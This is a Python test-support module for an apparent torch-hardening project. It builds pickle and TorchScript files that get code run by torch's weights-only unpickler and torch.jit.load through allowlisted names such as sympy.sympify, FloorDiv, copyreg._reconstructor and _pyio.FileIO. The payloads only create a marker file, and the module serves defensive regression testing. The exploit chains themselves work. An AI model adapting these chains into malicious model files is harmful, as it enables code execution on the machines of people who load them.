"""Harmless marker payloads for issue 22: each creates one marker file when torch runs it."""

# Each technique made torch 2.13's weights-only unpickler (or torch.jit.load) run code once
# the names torchpatch used to print were allowlisted. The payload only creates an empty
# marker file, so a test can prove the payload runs (naive allowlist) and that nothing
# torchpatch does or prints makes it run.

from __future__ import annotations

from make_corpus import call, op_global, op_str, payload_pickle, torch_zip


def touch_code(marker: str) -> str:
    """Python source that sympy's eval runs: create the marker file."""
    return f"__import__('pathlib').Path({marker!r}).touch()"


def _setstate_trick(cls: str, evaluator: str, marker: str) -> bytes:
    """A first BUILD stores ``evaluator`` under __setstate__ in the instance's __dict__; the
    second BUILD finds ``inst.__setstate__`` and calls it with the payload string."""
    module, _, name = cls.rpartition(".")
    ev_module, _, ev_name = evaluator.rpartition(".")
    return (op_global(module, name) + b")\x81" + b"}" + op_str("__setstate__") + op_global(ev_module, ev_name) + b"sb"
            + op_str(touch_code(marker)) + b"b")


FLOORDIV = ("torch.utils._sympy.functions", "FloorDiv")


def pickle_payloads(marker: str) -> dict[str, tuple[bytes, list[str], bool]]:
    """{name: (torch zip bytes, the naive allowlist that makes it run, whether weights_only=True runs it)}."""
    code = touch_code(marker)
    floordiv = op_global(*FLOORDIV)
    floortoint = op_global("torch.utils._sympy.functions", "FloorToInt")
    return {
        "setstate_namespace_sympify": (torch_zip(payload_pickle(_setstate_trick("argparse.Namespace", "sympy.sympify", marker))),
                                       ["argparse.Namespace", "sympy.sympify"], True),
        "setstate_namespace_parse_expr": (torch_zip(payload_pickle(_setstate_trick(
            "argparse.Namespace", "sympy.parsing.sympy_parser.parse_expr", marker))),
            ["argparse.Namespace", "sympy.parsing.sympy_parser.parse_expr"], True),
        "setstate_namespace_S": (torch_zip(payload_pickle(_setstate_trick("argparse.Namespace", "sympy.S", marker))),
                                 ["argparse.Namespace", "sympy.S"], True),
        "setstate_linear_sympify": (torch_zip(payload_pickle(_setstate_trick("torch.nn.modules.linear.Linear", "sympy.sympify", marker))),
                                    ["torch.nn.modules.linear.Linear", "sympy.sympify"], True),
        "reduce_sympy_poly": (torch_zip(payload_pickle(call(op_global("sympy", "Poly"), op_str(code)))), ["sympy.Poly"], True),
        "reduce_torch_floordiv": (torch_zip(payload_pickle(call(floordiv, op_str(code), op_str("1")))), [".".join(FLOORDIV)], True),
        "newobj_torch_floordiv": (torch_zip(payload_pickle(floordiv + b"(" + op_str(code) + op_str("1") + b"t\x81")),
                                  [".".join(FLOORDIV)], True),
        # NEWOBJ_EX is not among the weights-only opcodes: the full unpickler runs it.
        "newobj_ex_torch_floordiv": (torch_zip(payload_pickle(floordiv + b"(" + op_str(code) + op_str("1") + b"t}\x92", protocol=4)),
                                     [".".join(FLOORDIV)], False),
        # copyreg._reconstructor(cls, base, state) runs base.__new__(cls, state): a one-argument class.
        "reconstructor_torch_floortoint": (torch_zip(payload_pickle(call(op_global("copyreg", "_reconstructor"), floortoint, floortoint,
                                                                          op_str(code)))),
                                           ["copyreg._reconstructor", "torch.utils._sympy.functions.FloorToInt"], True),
        "pyio_fileio": (torch_zip(payload_pickle(call(op_global("_pyio", "FileIO"), op_str(marker), op_str("w")))), ["_pyio.FileIO"], True),
    }


# Run under real torch in a throwaway interpreter: stdin = JSON [[path, marker, weights_only, names], ...];
# prints, per file, whether its marker exists afterwards (the load may fail after the payload ran).
NAIVE_LOAD = r'''
import importlib, json, os, sys, warnings
import torch
warnings.simplefilter("ignore")
def resolve(name):
    module, _, attr = name.rpartition(".")
    return (getattr(importlib.import_module(module), attr), name)
results = []
for path, marker, weights_only, names in json.load(sys.stdin):
    try:
        with torch.serialization.safe_globals([resolve(n) for n in names]):
            torch.load(path, weights_only=weights_only)
    except Exception:
        pass
    results.append(os.path.exists(marker))
print(json.dumps(results))
'''

# A scripted module whose __setstate__ (run by torch.jit.load) creates the marker with
# torch.from_file(shared=True), or only does tensor math. argv = out marker effect(1|0).
TORCHSCRIPT_WRITER = r'''
import sys, warnings
import torch
warnings.simplefilter("ignore")
out, marker, effect = sys.argv[1], sys.argv[2], sys.argv[3] == "1"
source = """
class Loaded(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.ones(2)
    def forward(self, x):
        return x * self.w
    @torch.jit.export
    def __getstate__(self):
        return (self.w, self.training)
    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.w = state[0]
        self.training = state[1]
        self.w = BODY
"""
body = f"self.w + torch.from_file({marker!r}, True, 2)" if effect else "self.w * 2.0 + 1.0"
namespace = {"torch": torch}
import tempfile, importlib.util, os
with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as handle:
    handle.write("import torch\n" + source.replace("BODY", body))
spec = importlib.util.spec_from_file_location("loaded_module", handle.name)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
torch.jit.save(torch.jit.script(module.Loaded()), out)
os.unlink(handle.name)
'''

JIT_LOAD = r'''
import os, sys, warnings
import torch
warnings.simplefilter("ignore")
torch.jit.load(sys.argv[1])
print("RAN" if os.path.exists(sys.argv[2]) else "CLEAN")
'''
